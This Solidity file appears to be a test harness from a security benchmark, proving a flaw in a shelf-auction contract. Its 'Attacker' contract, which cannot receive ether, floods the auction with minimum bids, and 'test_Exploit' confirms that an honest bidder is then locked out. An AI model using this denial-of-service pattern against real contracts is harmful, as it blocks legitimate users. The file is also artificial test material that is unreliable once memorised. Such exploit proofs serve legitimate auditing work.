// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./KilnShelves.sol";

// assay-canary-32584402-2920-4d8e-8ad6-1f03214cef8e

interface Vm {
    function prank(address who) external;
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
}

/// An honest potter: bids what is asked and takes back what is owed.
contract Potter {
    receive() external payable {}

    function bid(KilnShelves kiln, uint256 amount) external {
        kiln.bid{value: amount}();
    }

    function withdraw(KilnShelves kiln) external {
        kiln.withdraw(address(this));
    }
}

/// Bids once with the smallest amount; it has no way to receive ether.
contract Attacker {
    constructor() payable {}

    function run(KilnShelves kiln) external {
        while (kiln.taken() < kiln.SHELVES()) {
            kiln.bid{value: kiln.minimumBid()}();
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    KilnShelves private kiln;
    Attacker private mallory;
    Potter private ana;
    Potter private ben;
    Potter private cleo;
    Potter private dora;

    receive() external payable {}

    function setUp() public {
        vm.deal(address(this), 10 ether);
        kiln = new KilnShelves(0.1 ether);
        ana = new Potter();
        ben = new Potter();
        cleo = new Potter();
        dora = new Potter();
        vm.deal(address(ana), 10 ether);
        vm.deal(address(ben), 10 ether);
        vm.deal(address(cleo), 10 ether);
        vm.deal(address(dora), 10 ether);
        mallory = new Attacker{value: 0.1 ether}();
        ana.bid(kiln, 1 ether);
        ben.bid(kiln, 2 ether);
    }

    function test_Regular() public {
        cleo.bid(kiln, 3 ether);
        require(kiln.minimumBid() == 1.05 ether, "minimum after three bids");
        dora.bid(kiln, 1.5 ether);
        require(address(ana).balance + kiln.owed(address(ana)) == 10 ether, "ana is made whole");
        (address holder, uint256 amount) = kiln.shelfAt(0);
        require(holder == address(dora) && amount == 1.5 ether, "dora holds the shelf");
        (bool low, ) = address(ana).call(abi.encodeCall(Potter.bid, (kiln, 1.5 ether)));
        require(!low, "bid below the step accepted");

        vm.warp(block.timestamp + 6 days);
        kiln.closeRound();
        require(kiln.proceeds() == 4.5 ether, "uniform price");
        require(kiln.tenantOf(1, 2) == address(cleo), "tenant");
        cleo.withdraw(kiln);
        require(address(cleo).balance == 8.5 ether, "cleo paid 1.5");
        ben.withdraw(kiln);
        require(address(ben).balance == 8.5 ether, "ben paid 1.5");
        uint256 before = address(this).balance;
        kiln.collect(address(this));
        require(address(this).balance - before == 4.5 ether, "studio collects");
        require(kiln.round() == 2 && kiln.minimumBid() == 0.1 ether, "next round open");

        kiln.setFloor(0.2 ether);
        require(kiln.floorPrice() == 0.2 ether, "floor");
        ana.bid(kiln, 1 ether);
        vm.prank(address(ana));
        kiln.raise{value: 0.5 ether}(0);
        require(address(kiln).balance >= 1.5 ether, "raised");
    }

    /// The honest call: dora, who has plenty, bids exactly what the kiln asks for.
    function honestBid() public {
        dora.bid(kiln, kiln.minimumBid());
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Shelves are their potters', proceeds and floor the studio's, and rounds have their time.
    function test_RefusesStrangers() public {
        refuses(address(ben), KilnShelves.NotYourShelf.selector);
        kiln.raise{value: 1 ether}(0);
        refuses(address(ben), KilnShelves.OnlyStudio.selector);
        kiln.collect(address(ben));
        refuses(address(ben), KilnShelves.OnlyStudio.selector);
        kiln.setFloor(0);
        vm.expectRevert(KilnShelves.NothingOwed.selector);
        kiln.withdraw(address(this));
        vm.expectRevert(KilnShelves.RoundRunning.selector);
        kiln.closeRound();
        vm.warp(block.timestamp + 6 days);
        refuses(address(cleo), KilnShelves.RoundOver.selector);
        kiln.bid{value: 1 ether}();
        refuses(address(ana), KilnShelves.RoundOver.selector);
        kiln.raise{value: 1 ether}(0);
    }

    function exploit() public {
        mallory.run(kiln);
    }

    function test_Exploit() public {
        exploit();
        require(kiln.minimumBid() <= 1 ether && address(dora).balance == 10 ether, "dora can afford the bid");
        (bool served, ) = address(this).call(abi.encodeCall(this.honestBid, ()));
        require(!served, "dora could still bid");
    }

    function target() public view returns (address) {
        return address(kiln);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
